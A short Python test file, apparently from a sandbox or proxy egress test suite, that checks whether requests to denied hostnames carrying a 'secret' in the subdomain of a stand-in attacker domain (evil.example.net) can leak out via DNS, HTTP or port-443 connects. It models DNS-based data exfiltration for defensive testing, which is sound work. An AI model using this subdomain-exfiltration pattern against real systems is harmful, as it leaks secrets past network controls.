"""Asks for denied names that carry a secret: asking a resolver for them would already have told it."""
# outside: never

from attempt import attempt
from proxied import connects, get, reached


@attempt
def main():
    names = [f"secret-{number}.by-proxy.evil.example.net" for number in range(4)]
    return [who for name in names for who in reached(get(f"http://{name}/"))] + connects(*(f"{name}:443" for name in names))
